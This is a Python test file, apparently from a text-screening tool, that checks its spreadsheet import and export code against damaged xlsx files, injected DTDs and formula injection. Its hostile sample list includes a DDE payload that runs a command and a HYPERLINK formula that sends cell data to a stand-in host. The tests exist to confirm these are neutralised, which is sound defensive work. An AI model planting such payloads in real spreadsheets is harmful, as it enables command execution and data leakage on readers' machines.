"""Issue #18, items 10, 15 and 16: spreadsheets that attack their readers, formulas in exports, one-line errors."""

from __future__ import annotations

import io
import json
import random
import zipfile
from pathlib import Path

import pytest

from hegui.errors import InputError
from hegui.screen import lexicon as L
from tests.hostile.conftest import hegui

HOSTILE_TEXT = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "'=already quoted",
    "''@twice",
    "'plain apostrophe",
]


def hostile_lexicon() -> L.Lexicon:
    entries = [
        L.make_entry(text[:60], ["A.1.a"], notes=text, allow=["=HYPERLINK(x)", "-1"]) for text in HOSTILE_TEXT
    ]
    entries.append(L.make_entry("\tTabbed", ["A.1.b"], notes="\rcarriage"))
    return L.Lexicon(entries, name="=evil()", version="@1")


def demo_xlsx(tmp_path: Path) -> bytes:
    path = tmp_path / "seed.xlsx"
    L.write(L.load_demo(), path)
    return path.read_bytes()


# ---- item 10: every damaged spreadsheet is a clear error, exit 3 -----------------------------------------------


def test_byte_flipped_xlsx_never_crashes(tmp_path: Path) -> None:
    data = demo_xlsx(tmp_path)
    rng = random.Random(18)
    path = tmp_path / "flipped.xlsx"
    outcomes = {"ok": 0, "refused": 0}
    for _ in range(200):
        damaged = bytearray(data)
        for _ in range(rng.randint(1, 4)):
            damaged[rng.randrange(len(damaged))] = rng.randrange(256)
        path.write_bytes(bytes(damaged))
        try:
            L.load(path)
            outcomes["ok"] += 1
        except InputError as exc:
            assert str(path) in str(exc)
            outcomes["refused"] += 1
    assert outcomes["refused"] > 100  # most flips break the zip or the XML: each one is a clear InputError


def test_byte_flipped_xlsx_through_the_cli(tmp_path: Path) -> None:
    data = bytearray(demo_xlsx(tmp_path))
    # Damage the deflated sheet data (inside the zip, past the local header of the first member).
    for offset in range(600, 900, 7):
        data[offset] ^= 0x55
    (tmp_path / "bad.xlsx").write_bytes(bytes(data))
    for args in (
        ["lexicon", "import", "bad.xlsx", "-o", "out.json"],
        ["screen", "file", "-l", "bad.xlsx", "t.txt"],
    ):
        (tmp_path / "t.txt").write_text("hello\n", encoding="utf-8")
        result = hegui(*args, cwd=tmp_path)
        assert result.returncode == 3, (args, result.stdout, result.stderr)
        assert "Traceback" not in result.stderr and "bad.xlsx" in result.stderr


def _with_dtd(data: bytes, member: str) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == member:
                body = body.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY a "aaaaaaaa">]>', 1)
                if b"<!DOCTYPE" not in body:
                    body = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaa">]>' + body
            z.writestr(info.filename, body)
    return out.getvalue()


@pytest.mark.parametrize("member", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml"])
def test_xlsx_with_a_dtd_is_refused(tmp_path: Path, member: str) -> None:
    path = tmp_path / "dtd.xlsx"
    path.write_bytes(_with_dtd(demo_xlsx(tmp_path), member))
    with pytest.raises(InputError, match="DTD"):
        L.load(path)


def test_csv_field_over_the_csv_module_limit(tmp_path: Path) -> None:
    path = tmp_path / "long.csv"
    path.write_text("关键词,二级分类\n" + "x" * 140_000 + ",A.1.a\n", encoding="utf-8")
    result = hegui("lexicon", "import", "long.csv", "-o", "out.json", cwd=tmp_path)
    assert result.returncode == 3 and "Traceback" not in result.stderr
    assert "line 2" in result.stderr
    (tmp_path / "t.txt").write_text("hello\n", encoding="utf-8")
    result = hegui("screen", "file", "-l", "long.csv", "t.txt", cwd=tmp_path)
    assert result.returncode == 3 and "Traceback" not in result.stderr


def test_every_bad_row_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "rows.csv"
    path.write_text(
        "关键词,二级分类\nfine,A.1.a\nfoo,A.9.z\n,A.1.a\nalso fine,A.1.b\nbar,nope\n"
        + "y" * 5000
        + ",A.1.a\n",
        encoding="utf-8",
    )
    with pytest.raises(InputError) as caught:
        L.load(path)
    message = str(caught.value)
    assert "4 bad rows" in message
    for row in ("row 3", "row 4", "row 6", "row 7"):
        assert row in message
    assert "row 2" not in message and "row 5" not in message


# ---- item 15: exports never hold live formulas; round trips are exact -------------------------------------------


@pytest.mark.parametrize("suffix", ["xlsx", "csv", "json"])
def test_hostile_text_round_trips_exactly(tmp_path: Path, suffix: str) -> None:
    lex = hostile_lexicon()
    path = tmp_path / f"lex.{suffix}"
    L.write(lex, path)
    back = L.load(path)
    assert back.entries == lex.entries


def test_xlsx_export_holds_no_formula(tmp_path: Path) -> None:
    path = tmp_path / "lex.xlsx"
    L.write(hostile_lexicon(), path)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    import openpyxl

    wb = openpyxl.load_workbook(path)  # not data_only: a formula would come back as a formula
    try:
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        assert all(c.data_type != "f" for c in cells)
        assert any(c.value == HOSTILE_TEXT[0] for c in cells)
    finally:
        wb.close()


def test_csv_export_neutralises_formula_starts(tmp_path: Path) -> None:
    import csv

    path = tmp_path / "lex.csv"
    L.write(hostile_lexicon(), path)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# ---- item 16: errors name the file, on one line; --limit is checked --------------------------------------------


def test_png_xmp_error_names_the_file_on_one_line(tmp_path: Path) -> None:
    from tests.hostile import corpus

    (tmp_path / "bad.png").write_bytes(corpus.png_bad_xmp())
    result = hegui("label", "show", "bad.png", "--json", cwd=tmp_path)
    assert result.returncode == 3
    (row,) = json.loads(result.stdout)["files"]
    assert row["error"].startswith("bad.png") and "\n" not in row["error"]
    assert "not well-formed" in row["error"]


def test_markdown_yaml_error_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "a.md").write_text("---\ntitle: [unclosed\n  more: {\n---\nbody\n", encoding="utf-8")
    result = hegui("label", "show", "a.md", "--json", cwd=tmp_path)
    assert result.returncode == 3
    (row,) = json.loads(result.stdout)["files"]
    assert "\n" not in row["error"] and row["error"].startswith("a.md")


def test_negative_limit_is_a_usage_error(tmp_path: Path) -> None:
    (tmp_path / "t.txt").write_text("hello\n", encoding="utf-8")
    result = hegui("screen", "file", "t.txt", "--limit", "-5", cwd=tmp_path)
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert "not listed" not in result.stdout


def test_lexicon_error_text_is_not_markup(tmp_path: Path) -> None:
    (tmp_path / "m.csv").write_text("关键词,二级分类\n[/bold],A.9.z\n", encoding="utf-8")
    result = hegui("lexicon", "import", "m.csv", "-o", "out.json", cwd=tmp_path)
    assert result.returncode == 3 and "Traceback" not in result.stderr
    assert "[/bold]" in result.stderr


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_lexicon_fifo_is_refused_not_waited_on(tmp_path: Path, suffix: str) -> None:
    import os

    os.mkfifo(tmp_path / f"pipe.{suffix}")
    result = hegui("lexicon", "import", f"pipe.{suffix}", "-o", "out.json", cwd=tmp_path, timeout=60)
    assert result.returncode == 3 and "regular file" in result.stderr
